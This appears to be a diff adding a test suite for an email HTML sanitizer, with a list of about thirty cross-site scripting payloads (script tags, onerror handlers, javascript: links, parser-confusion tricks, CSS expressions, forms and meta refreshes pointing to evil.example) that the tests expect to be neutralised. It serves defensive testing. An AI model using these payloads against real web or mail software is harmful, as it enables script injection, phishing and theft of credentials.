@@ -1,0 +1,140 @@
+/** What strangers write into the HTML of a mail, in front of the team. */
+import { parseHTML } from 'linkedom';
+import { describe, expect, test } from 'vitest';
+import { htmlMaxLength, safeHtml, safeHtmlPage, safeHtmlPolicy, withRemotePictures } from '../../src/mail/safe-html.ts';
+
+const safe = (html: string): string => safeHtml(html)?.html ?? '';
+
+/** Attributes that may be in what is left; each but `href`, `src`, `data-src` and `style` is only text. */
+const harmless =
+  /^(?:style|dir|lang|align|valign|bgcolor|color|width|height|title|href|target|rel|face|size|alt|src|data-src|start|type|border|cellpadding|cellspacing|colspan|rowspan)$/;
+const dangerousElements =
+  'script,style,link,meta,base,iframe,frame,object,embed,form,input,button,textarea,select,svg,math,template,video,audio,noscript,title,xmp,plaintext';
+
+/** Reads the page as a parser does that has not made it, and names everything in the mail that could act. */
+function findings(html: string): string[] {
+  const { document } = parseHTML(safeHtmlPage(safe(html)));
+  const elements = [...document.querySelectorAll('body *')];
+  return elements.flatMap((element) => [
+    ...(element.matches(dangerousElements) ? [element.tagName] : []),
+    ...[...element.attributes].flatMap(({ name, value }) => {
+      if (!harmless.test(name)) return [`${name}=${value}`];
+      if (name === 'href' && !/^(?:https?|mailto|tel):/i.test(value)) return [`href=${value}`];
+      if (name === 'src' && !/^data:image\/(?:png|jpeg|gif|webp);base64,/.test(value)) return [`src=${value}`];
+      if (name === 'style' && /url|expression|import|@|position|behavior|javascript|\\/i.test(value)) return [value];
+      return [];
+    }),
+  ]);
+}
+
+const attacks: Record<string, string> = {
+  'a script': '<p>Hi</p><script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  'a script within another': '<p>Hi</p><scr<script>ipt>alert(1)</scr</script>ipt>',
+  'event handlers': '<p onclick=alert(1) onmouseover="x">Hi</p><img src=x onerror=alert(1)><body onload=alert(1)>',
+  'an event handler behind a slash': '<img/src=x/onerror=alert(1)><svg/onload=alert(1)>Hi',
+  'links that run':
+    '<a href="javascript:alert(1)">Hi</a><a href=" jav&#x09;ascript:alert(1)">x</a><a href="data:text/html,x">y</a><a href="vbscript:x">z</a>',
+  'a link without a scheme': '<a href="//evil.example">Hi</a><a href="/api/users">here</a>',
+  'addresses in styles':
+    '<p style="background:url(https://evil.example/t.png);color:red">Hi</p><p style="background-image:image-set(\'https://evil.example\')">x</p>',
+  'escaped styles': '<p style="w\\69dth:expression(alert(1));background:u\\72l(//evil.example)">Hi</p>',
+  'a place over the page': '<div style="position:fixed;inset:0;z-index:9999">Sign in again</div>',
+  'a style sheet':
+    '<style>@import "https://evil.example/x.css";*{display:none}</style><link rel=stylesheet href=//evil.example>Hi',
+  'SVG and MathML':
+    '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>Hi</text></a></svg><math><mtext><img src=x onerror=alert(1)></mtext></math>Hi',
+  'a parser that is led astray by noscript':
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">Hi</noscript>Hi',
+  'a parser that is led astray by foreign content':
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">Hi',
+  'a parser that is led astray by form and math':
+    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>Hi',
+  'a parser that is led astray by raw text':
+    '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea><xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>Hi',
+  'a title that ends itself': '<title><a title="</title><img src=x onerror=alert(1)>"></title>Hi',
+  'a comment that never ends': 'Hi <!-- > <img src=x onerror=alert(1)> -->',
+  'a comment that ends early': '<!--> <img src=x onerror=alert(1)> -->Hi',
+  'processing instructions and CDATA': '<?xml <img src=x onerror=alert(1)>?><![CDATA[<img src=x onerror=alert(1)>]]>Hi',
+  'another base': '<base href="https://evil.example/"><a href="login">Hi</a>',
+  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">Hi',
+  'a form':
+    '<form action="https://evil.example"><input name=password type=password><button formaction=javascript:alert(1)>Hi</button></form>Hi',
+  'frames and objects': '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x>Hi',
+  'names that hide those of the page': '<img name="body" id="cookie" alt="x"><a id="location" class="x">Hi</a>',
+  'pictures that load':
+    '<img srcset="https://evil.example/1 1x" alt=x><picture><source srcset="//evil.example"><img src="//evil.example/2" alt=y></picture><table background="https://evil.example"><tr><td>Hi</table>',
+  'a vector picture as data': '<img alt=x src="data:image/svg+xml;base64,PHN2Zy8+">Hi',
+  'quotation marks that never end': '<p title="Hi><img src=x onerror=alert(1)>',
+  'a data attribute of its own':
+    '<img data-src="https://evil.example/t.png" alt=Hi><img alt="&quot; src=&quot;https://evil.example">',
+  'a link that opens over us':
+    '<a href="https://evil.example" target="_top" rel="opener" ping="https://evil.example">Hi</a>',
+};
+
+test.each(Object.entries(attacks))('%s does nothing', (_name, html) => {
+  expect(findings(html)).toEqual([]);
+});
+
+test('what is made safe stays as it is when it is made safe again', () => {
+  for (const html of Object.values(attacks)) expect(safe(safe(html))).toBe(safe(html));
+});
+
+test('a tree of any depth, an attribute of any length and a text of any size are read in time', () => {
+  const started = performance.now();
+  for (const html of [
+    '<div>'.repeat(200_000),
+    `${'<b><i>'.repeat(50_000)}Hi${'</b></i>'.repeat(50_000)}`,
+    `<p style="${'color:red;'.repeat(50_000)}">Hi</p>`,
+    `<a href="${'https://a.example/'.repeat(30_000)}">Hi</a>`,
+    `${'<table><tr><td>'.repeat(20_000)}Hi`,
+    '<p title="'.repeat(50_000),
+    '&lt;'.repeat(200_000),
+    `<img src="data:image/png;base64,${'A'.repeat(400_000)}" alt=x>`,
+  ]) {
+    expect((safeHtml(html)?.html ?? '').length).toBeLessThanOrEqual(2 * htmlMaxLength + 100);
+  }
+  expect(performance.now() - started).toBeLessThan(20_000);
+});
+
+test('more HTML than is kept is cut with a mark, without half an element', () => {
+  const cut = safeHtml('<p>A line of the mail.</p>'.repeat(40_000));
+  expect(cut?.isCut).toBe(true);
+  expect(cut?.html.endsWith('<p>…</p>')).toBe(true);
+  expect(safeHtml('<p>Short</p>')).toEqual({ html: '<p>Short</p>', hasRemotePictures: false, isCut: false });
+});
+
+test('words, tables, colours and links stay, and links open elsewhere without a word of where they were', () => {
+  const html = safe(
+    '<table width="600" bgcolor="#eeeeee"><tr><td style="padding:8px 4px;color:#ff0000;font-weight:bold" align="center">Order <b>42</b></td></tr></table><a href="https://shop.example/x?a=1&amp;b=2">Pay</a>',
+  );
+  expect(html).toBe(
+    '<table width="600" bgcolor="#eeeeee"><tr><td style="padding:8px 4px;color:#ff0000;font-weight:bold" align="center">Order <b>42</b></td></tr></table><a href="https://shop.example/x?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">Pay</a>',
+  );
+});
+
+describe('pictures of other servers', () => {
+  const mail =
+    '<p>Hi</p><img src="https://shop.example/logo.png" width="200" alt="Logo"><img src="https://t.example/open?id=7" width=1 height=1>';
+
+  test('are not loaded, and one that only counts readers is left out', () => {
+    expect(safeHtml(mail)).toMatchObject({ hasRemotePictures: true });
+    expect(safe(mail)).not.toMatch(/\ssrc=|t\.example/);
+    expect(safeHtmlPolicy(false)).toContain('img-src data:;');
+  });
+
+  test('are loaded when asked for', () => {
+    expect(withRemotePictures(safe(mail))).toContain(' src="https://shop.example/logo.png"');
+    expect(safeHtmlPolicy(true)).toContain('img-src data: https: http:;');
+  });
+});
+
+test('the page has no origin, no scripts, no forms, and is framed by the dashboard alone', () => {
+  for (const policy of [safeHtmlPolicy(false), safeHtmlPolicy(true)]) {
+    expect(policy).toMatch(/default-src 'none'.*form-action 'none'; base-uri 'none'; frame-ancestors 'self'; sandbox /);
+    expect(policy).not.toMatch(/allow-scripts|allow-same-origin|allow-forms|script-src/);
+  }
+});
+
+test('HTML in which there is nothing to see is none', () => {
+  expect(safeHtml('<html><head><style>p{}</style></head><body><div><br></div></body></html>')).toBeNull();
+});
